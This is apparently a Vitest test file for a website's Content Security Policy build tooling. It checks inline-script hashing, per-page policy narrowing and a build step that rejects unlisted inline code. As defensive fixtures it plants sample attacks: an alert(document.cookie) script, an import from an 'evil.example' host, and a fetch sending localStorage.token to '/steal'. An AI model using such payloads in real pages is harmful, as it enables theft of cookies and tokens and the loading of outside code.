import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cspPerPage } from '../../src/integrations/cspPerPage';
import { loaderFor } from '../../src/lib/performance/deferScript';
import { speculationRulesText } from '../../src/lib/performance/speculation';
import {
  extraScriptSources,
  inlineHashes,
  narrowPageCsp,
  narrowPolicy,
  unlistedInlineCode,
  WASM_SOURCE,
} from '../../src/lib/security/csp';
import { ownInlineHashes } from '../../src/lib/security/ownInlineScripts';

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const STALE = "'sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='";
const policy = `default-src 'self';img-src 'self' data:;script-src 'self' ${STALE} 'sha256-BBBB'; style-src 'self' ${STALE};`;
const page = (body: string) =>
  `<!doctype html><html><head><meta http-equiv="content-security-policy" content="${policy}"><style>body{margin:0}</style></head><body>${body}</body></html>`;

describe('inlineHashes', () => {
  it('hashes inline code and styles, in page order, once each', () => {
    const html = page(
      '<script>run()</script><script type="module">go()</script><style>p{}</style><script>run()</script>',
    );
    expect(inlineHashes(html)).toEqual({
      script: [hash('run()'), hash('go()')],
      style: [hash('body{margin:0}'), hash('p{}')],
    });
  });

  it('leaves out script files and JSON data, which the policy does not cover', () => {
    const html = page(
      '<script src="/_astro/a.js"></script><script type="application/ld+json">{"@type":"Thing"}</script><script type="application/json">{}</script>',
    );
    expect(inlineHashes(html).script).toEqual([]);
  });

  it('hashes the exact text, with its spaces and a ">" inside it', () => {
    expect(inlineHashes('<script>\n if (a > b) x();\n</script>').script).toEqual([hash('\n if (a > b) x();\n')]);
  });
});

describe('narrowPolicy', () => {
  it("replaces the hashes of script-src and style-src, keeping 'self' and every other directive", () => {
    const narrowed = narrowPolicy(policy, { script: [hash('a')], style: [hash('b')] });
    expect(narrowed).toBe(
      `default-src 'self';img-src 'self' data:;script-src 'self' ${hash('a')};style-src 'self' ${hash('b')};`,
    );
  });

  it("leaves a directive with no inline code at its other sources: 'self' alone, never 'unsafe-inline'", () => {
    expect(narrowPolicy("script-src 'self' 'sha256-x'", { script: [], style: [] })).toBe("script-src 'self'");
  });
});

describe('narrowPageCsp', () => {
  it("keeps exactly the page's own hashes in its policy <meta>", () => {
    const html = narrowPageCsp(page('<script>run()</script>'));
    const content = /content="([^"]*)"/.exec(html)?.[1] ?? '';
    expect(content).not.toContain(STALE);
    expect(content).toContain(`script-src 'self' ${hash('run()')}`);
    expect(content).toContain(`style-src 'self' ${hash('body{margin:0}')}`);
    expect(html.replace(content, '')).toBe(page('<script>run()</script>').replace(policy, ''));
  });

  it('returns a page without a policy as it is', () => {
    const html = '<html><head><style>p{}</style></head></html>';
    expect(narrowPageCsp(html)).toBe(html);
  });
});

describe("'wasm-unsafe-eval' for site search", () => {
  it.each([
    ['search', ["'wasm-unsafe-eval'"]],
    ['page', []],
    ['service', []],
    ['home', []],
    ['role', []],
    ['not-found', []],
    [undefined, []],
  ] as const)('a page of kind %s adds %j to script-src', (kind, extra) => {
    expect(extraScriptSources(kind)).toEqual(extra);
  });

  it('is added to script-src only, once, before the hashes', () => {
    const narrowed = narrowPolicy(policy, { script: [hash('a')], style: [] }, extraScriptSources('search'));
    expect(narrowed).toContain(`script-src 'self' 'wasm-unsafe-eval' ${hash('a')}`);
    expect(narrowed.match(/wasm-unsafe-eval/g)).toHaveLength(1);
    expect(narrowPolicy(narrowed, { script: [], style: [] }, [WASM_SOURCE])).toContain(
      "script-src 'self' 'wasm-unsafe-eval'",
    );
    expect(narrowPolicy(narrowed, { script: [], style: [] })).not.toContain('wasm');
  });

  it('counts a speculation rules script as inline code (the browser checks it against script-src)', () => {
    const rules = '{"prefetch":[]}';
    expect(inlineHashes(page(`<script type="speculationrules">${rules}</script>`)).script).toEqual([hash(rules)]);
    expect(narrowPageCsp(page(`<script type="speculationrules">${rules}</script>`))).toContain(hash(rules));
  });
});

/** A page as Astro writes it: its policy lists the hashes of the code Astro made (here "astro()" and the page's style). */
const ASTRO_POLICY = `default-src 'self';script-src 'self' ${hash('astro()')};style-src 'self' ${hash('body{margin:0}')}`;
const built = (body: string) =>
  `<!doctype html><html><head><meta http-equiv="content-security-policy" content="${ASTRO_POLICY}"><style>body{margin:0}</style></head><body>${body}</body></html>`;

describe('unlistedInlineCode: only code the build wrote', () => {
  it("passes a page whose inline code is Astro's, the project's own, data or files", () => {
    const own = new Set([hash(speculationRulesText())]);
    const html = built(
      `<script>astro()</script><script type="speculationrules">${speculationRulesText()}</script>` +
        '<script type="application/ld+json">{}</script><script type="module" src="/_astro/a.js"></script>',
    );
    expect(unlistedInlineCode(html, own)).toEqual([]);
  });

  it.each([
    ['a script from content', '<script>alert(document.cookie)</script>', 'script', 'alert(document.cookie)'],
    ['a module script', '<script type="module">import("https://evil.example/x.js")</script>', 'script', 'import('],
    ['a style from content', '<style>main{display:none}</style>', 'style', 'main{display:none}'],
  ])('finds %s, which the policy would otherwise allow', (_, code, kind, excerpt) => {
    const [found, ...more] = unlistedInlineCode(built(`<script>astro()</script>${code}`), new Set());
    expect(more).toEqual([]);
    expect(found?.kind).toBe(kind);
    expect(found?.excerpt).toContain(excerpt);
  });

  it("allows the project's named inline scripts: the speculation rules and each deferred script's loader", () => {
    const dist = mkdtempSync(join(tmpdir(), 'own-inline-'));
    try {
      mkdirSync(join(dist, '_astro'));
      writeFileSync(join(dist, '_astro', 'AnalyticsScript.astro_astro_type_script_index_0_lang.X1.js'), '');
      const own = ownInlineHashes(dist);
      expect(own).toContain(hash(speculationRulesText()));
      expect(own).toContain(hash(loaderFor('/_astro/AnalyticsScript.astro_astro_type_script_index_0_lang.X1.js')));
      expect(own).not.toContain(hash(loaderFor('https://evil.example/x.js')));
    } finally {
      rmSync(dist, { recursive: true, force: true });
    }
  });
});

describe('the build step (cspPerPage)', () => {
  const dist = mkdtempSync(join(tmpdir(), 'csp-per-page-'));
  afterAll(() => rmSync(dist, { recursive: true, force: true }));
  const run = async () => {
    const hooks = cspPerPage([]).hooks as Record<string, (arg: unknown) => Promise<void>>;
    await hooks['astro:build:done']?.({ dir: new URL(`file://${dist}/`), logger: { info: () => {} } });
  };

  it('stops the build on an inline script it did not write, naming the page, and leaves the page unallowed', async () => {
    mkdirSync(join(dist, '_astro'), { recursive: true });
    mkdirSync(join(dist, 'insights'), { recursive: true });
    writeFileSync(join(dist, 'index.html'), built('<script>astro()</script>'));
    const planted = built('<script>astro()</script><p>Hi</p><script>fetch("/steal?"+localStorage.token)</script>');
    writeFileSync(join(dist, 'insights', 'planted.html'), planted);
    await expect(run()).rejects.toThrow(
      /dist\/insights\/planted\.html \(\/insights\/planted\): <script> fetch\("\/steal\?"/,
    );
    expect(readFileSync(join(dist, 'insights', 'planted.html'), 'utf8')).not.toContain(
      hash('fetch("/steal?"+localStorage.token)'),
    );
  });

  it("narrows every page once all inline code is the build's own", async () => {
    writeFileSync(join(dist, 'insights', 'planted.html'), built('<script>astro()</script><p>Hi</p>'));
    await run();
    const policy = /content="([^"]*)"/.exec(readFileSync(join(dist, 'insights', 'planted.html'), 'utf8'))?.[1];
    expect(policy).toBe(
      `default-src 'self';script-src 'self' ${hash('astro()')};style-src 'self' ${hash('body{margin:0}')}`,
    );
  });
});
